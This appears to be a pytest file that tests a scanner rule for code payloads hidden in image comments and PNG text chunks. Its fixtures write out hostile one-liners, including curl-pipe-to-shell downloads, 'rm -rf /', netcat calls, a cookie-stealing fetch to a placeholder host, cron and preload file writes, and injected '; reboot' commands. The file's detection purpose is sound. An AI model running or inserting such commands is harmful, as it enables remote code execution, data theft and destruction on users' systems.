"""Words about code, which quote it in one line, and code of one line: only the latter is a payload."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from corrupt_samples.encode import jpeg
from corrupt_samples.pictures import photo
from tests.embedding import in_comments, with_chunk

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "embedded-payload"


def test_is_silent_about_captions_that_quote_a_call_in_one_line(fired: Fired) -> None:
    told = [
        b'document.write("hello") in a JS lesson',
        b"Invoke-WebRequest - PowerShell tee",
        b"Invoke-WebRequest tutorial cover image",
        b"curl -s site | sh, on a mug",
        b'os.system("clear") mug',
        b'CreateObject("Shell.Application") on a slide',
        b'var x = document.write("hi") - slide',
        b'# whiteboard: document.write("hi")',
    ]
    assert fired(RULE, in_comments(told)) == {}


def test_finds_code_of_one_line_with_what_languages_take_behind_a_call(fired: Fired) -> None:
    written = [
        b'import os; os.system("id")',
        b'os.system("curl http://example.org/x | sh") if os.name else None',
        b'document.write("<script src=//example.org/x.js></script>");',
        b'var x = new ActiveXObject("WScript.Shell"); x.Run("cmd")',
        b"eval(atob('YWxlcnQoMSkYWxlcnQoMSk=')) // lesson",
        b'CreateObject("WScript.Shell").Run "calc.exe" \' starts a calculator',
        b'Set s = CreateObject("WScript.Shell") Rem make a shell',
        b"curl -s http://example.org/x | sudo bash",
        b'curl -s http://example.org/x | bash -s "my tool" install all',
        b"Invoke-WebRequest http://example.org/x.exe -OutFile x.exe",
    ]
    files = in_comments(written)
    assert fired(RULE, files).keys() == files.keys()


def test_finds_code_whose_comments_and_strings_are_words(fired: Fired) -> None:
    written = [
        b"import os\nos.system('id') # this is a long comment of many words",
        b"import socket\ns = socket.socket() # make a new socket here now\nos.system('sh')",
        b"print('this is a plain old text')\nimport os\nos.system('id')",
        b"var a = 1 // the first of the values here\ndocument.location='http://example.org/'",
        b"sudo curl http://example.org/x | bash",
        b"cd /tmp && wget http://example.org/x -O- | sh",
        b"echo hello; curl http://example.org/x | sh",
        b'assert __import__("os").system("id")',
    ]
    files = in_comments(written)
    assert fired(RULE, files).keys() == files.keys()


def test_is_silent_about_words_on_code(fired: Fired) -> None:
    told = [
        b"import os is the first line of the script\nos.system('clear') is what it goes on with\nand then it ends",
        b"Echo of the past: he typed os.system('clear') and it's what they'd seen before",
        b"From the slide 'import os' one learns to call os.system(\"id\") and what comes of it",
        b"Case study of the exam: document.location='x' was what they had asked about",
        b'// document.write("hello") on a sticker\n// taken in the old town',
        b"# os.system('id') is on the screen\nx = 1",
        b"# Install\n```\ncurl http://example.org/x | sh\n```\nThen run it on this picture.",
        b"# Install\n\n    curl http://example.org/x | sh\n\nEnjoy the picture!",
        b"# Usage\n```python\nimport os\na = 1\nb = 2\nos.system('id')\n```\nGood luck to you",
    ]
    assert fired(RULE, in_comments(told)) == {}


@pytest.mark.parametrize(
    ("call", "is_found"),
    [
        (b"subprocess.run(['ffmpeg', '-i', 'in.mp4', 'out%d.png'])", False),
        (b"subprocess.run(['ffmpeg', '-r', str(5), '-i', path, 'out.mp4'])", False),
        (b"os.system('dvipng -o fig.png fig.dvi')", False),
        (b"os.system(f'dot -Tpng {name}.dot')", False),
        (b"os.system('gnuplot plot.gp')", False),
        (b"os.system('mkdir -p plots && blender -b scene.blend -f 1')", False),
        (b"ctypes.windll.user32.SetProcessDPIAware()", False),
        (b"x = ctypes.c_double(1)", False),
        (b"ctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)", True),
        (b"subprocess.run(['curl', 'http://example.org/a.png'])", True),
        (b"os.system('sh a.png')", True),
        (b"os.system('./a.png')", True),
        (b"os.system('convert a.png b.png | sh')", True),
        (b"os.system('mkdir plots && rm -rf /')", True),
        (b"os.system('convert a.png b.png && nc 192.0.2.1 80')", True),
        (b"os.execl('/bin/sh', 'sh')", True),
        (b"os.system('open a.png')", False),
        (b"os.system('rm -f frame*.png')", False),
        (b"os.system('sleep 1')", False),
        (b"p = Popen(cmd, stdout=PIPE)", False),
        (b"from subprocess import Popen\np = Popen(['gnuplot', '-p'], stdin=PIPE)", False),
        (b"from os import system\nsystem('clear')", False),
        (b"import subprocess as sp\nsp.run(['git', 'log'])\nsim.run('a')", False),
        (b"import subprocess as sp\nsp.run(['sh', '-i'])", True),
        (b"from os import *\nsystem('id')", True),
        (b"from subprocess import run as r\nr('id')", True),
        (b"os.system('cp a.png /etc/ld.so.preload')", True),
        (b"os.system('rm -rf x.png')", True),
        (b"os.system('tar xf a.jpg -C /')", True),
        (b"os.system('gcc -x c a.png')", True),
        (b"os.system('open a.png.command')", True),
        (b"os.system('mkdir a && dd of=a.png')", True),
        (b"os.system('blender -b a.blend --python a.png')", True),
        (b"os.system('ls ' + '; reboot')", True),
        (b"os.system(\"ls ''; reboot\")", True),
        (b"os.system('dot -Tpng a.dot -o /etc/cron.d/x')", True),
        (b"from os import (\n    system)\nsystem('id')", True),
        (b"import sys, os as o\no.system('id')", True),
        (b"subprocess.run(['convert', 'a.png', '|sh'])", True),
        (b"subprocess.run(['convert', x, '|sh'])", True),
    ],
)
def test_a_plot_s_source_may_call_what_draws(fired: Fired, call: bytes, is_found: bool) -> None:
    source = (
        b"Source\0import os, ctypes, subprocess\nimport matplotlib.pyplot as plt\n%s\nplt.savefig('a.png')\n" % call
    )
    assert bool(fired(RULE, {"a.png": with_chunk(b"tEXt", source)})) == is_found


@pytest.mark.parametrize(
    ("source", "is_found"),
    [
        (b'const data = await fetch("https://example.org/a.csv");\nplot(data);', False),
        (b'importScripts("https://example.org/a.js");', False),
        (b'local gp = io.popen("gnuplot -persist", "w")\ngp:write("plot x")', False),
        (b'os.execute("mkdir -p out")\nos.execute("sleep 1")', False),
        (b'local gp = io.popen("gnuplot | sh", "w")', True),
        (b"fetch('//example.org/?' + document.cookie)", True),
        (b"require(\"child_process\")['exec']('id')", True),
    ],
)
def test_plots_of_other_languages_may_load_their_data_and_draw(fired: Fired, source: bytes, is_found: bool) -> None:
    files = {"a.png": with_chunk(b"tEXt", b"Source\0" + source), "behind.jpg": jpeg(photo("a")) + source}
    assert fired(RULE, files).keys() == (files.keys() if is_found else set())


def test_a_plot_s_source_may_ask_for_versions_and_run_nothing_else(fired: Fired) -> None:
    source = b"Source\0import os, sys, subprocess\nx = subprocess.check_output(['%s', '%s'])\nprint(x)\n"
    files = {
        "git.png": with_chunk(b"tEXt", source % (b"git", b"rev-parse")),
        "curl.png": with_chunk(b"tEXt", source % (b"curl", b"http://example.org/x")),
        "shell.png": with_chunk(b"tEXt", source % (b"sh", b"-i")),
    }
    assert fired(RULE, files).keys() == {"curl.png", "shell.png"}
